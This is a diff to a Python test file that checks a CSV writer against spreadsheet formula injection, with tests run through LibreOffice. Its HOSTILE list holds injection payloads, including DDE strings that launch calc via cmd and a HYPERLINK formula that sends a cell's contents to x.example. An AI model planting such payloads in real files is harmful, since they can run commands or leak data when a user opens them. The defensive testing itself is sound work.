@@ -1,5 +1,6 @@
 """CSV files that are written: read back they are the same book, to the letter, and no spreadsheet finds a formula."""
 
+import re
 import subprocess
 from collections.abc import Sequence
 from datetime import date
@@ -32,6 +33,7 @@ HOSTILE = (
     "=1+1", "'=1+1", "''=1+1", "+1+1", "-1+1", "-5", "@SUM(1)", "\t=1+1", "\r=1+1", "'\t=1+1", "'@x", "'", "''",
     '=HYPERLINK("http://x.example?a="&A1;"look")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "O'=Hara",
     'a";=1+1', "a,=1+1", "one\n=1+1", "one\r\n=1+1",
+    "A, =1+1", "A, =1+1, B", "a;  -1+1", " =1+1", "\u00a0=1+1", "A, '=1+1", "a|\u2003+1+1",
 )  # fmt: skip
 AWKWARD = Book(
     Settings(partner="'=1+1", alert_days=(30, 60), growth_added=frozenset({"NA", "CI"})),
@@ -149,13 +151,24 @@ def test_libreoffice_finds_no_formula(decimal_comma: bool, tmp_path: Path) -> No
 @pytest.mark.libreoffice
 @pytest.mark.parametrize("separator", [";", "\t", "|"])
 def test_nor_where_a_program_parts_cells_elsewhere(separator: str, tmp_path: Path) -> None:
-    parts = [f"{before}{mark}=1+1" for before in ("a", "a b", 'say "x"', "") for mark in ";,|\t\n\r"]
+    marks = (*";,|\t\n\r", ", ", "; ")
+    parts = [f"{before}{mark}=1+1" for before in ("a", "a b", 'say "x"', "") for mark in marks]
     rows = [[f"{part}{end}", "x"] for part in (*parts, *HOSTILE) for end in ("", ";-2+3", "\n@SUM(1)")]
     write_csv(tmp_path / "safe.csv", ["One", "Two"], rows)
     found = opened_by_libreoffice(tmp_path / "safe.csv", separator, tmp_path / "out")
     texts = [cell for row in found for cell in row if isinstance(cell, str)]
     assert [text for text in texts if text.startswith(("=", "+", "-", "@"))] == []
     assert sum("1+1" in text for text in texts) >= len(parts)
+
+
+def test_what_another_separator_would_part_is_in_quotation_marks_and_no_formula(tmp_path: Path) -> None:
+    for decimal_comma, text in ((True, "A, =1+1, B"), (False, "A; =1+1; B"), (False, "A\u00a0| @x |")):
+        write_csv(tmp_path / "a.csv", ["Client", "Note"], [["x", text], [None, text]], decimal_comma)
+        lines = (tmp_path / "a.csv").read_text("utf-8-sig").splitlines()
+        assert all(line.endswith('"') and line.count('"') == 2 for line in lines[1:])
+        parts = [part.strip() for line in lines for part in re.split(r"[;,|]", line)]
+        assert [part for part in parts if part.startswith(("=", "+", "-", "@"))] == []
+        assert csv_grid(tmp_path / "a.csv", "a.csv", every_heading())[0].rows[1][1] == text
 
 
 def test_the_file_says_its_encoding_and_ends_lines_as_excel_does(tmp_path: Path) -> None:
